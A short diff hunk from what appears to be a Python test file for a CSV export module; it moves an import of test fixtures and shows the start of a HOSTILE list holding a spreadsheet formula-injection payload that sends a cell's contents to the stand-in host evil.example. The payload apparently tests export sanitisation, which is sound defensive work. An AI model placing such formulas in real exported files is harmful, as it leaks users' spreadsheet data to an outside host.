@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 
 from runner.domain.table import Dialect
 from runner.exports import Layout, Line, write
-from tests.exports.test_csv_file import EMAIL, GOOD
+from tests.exports.rows import EMAIL, GOOD
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
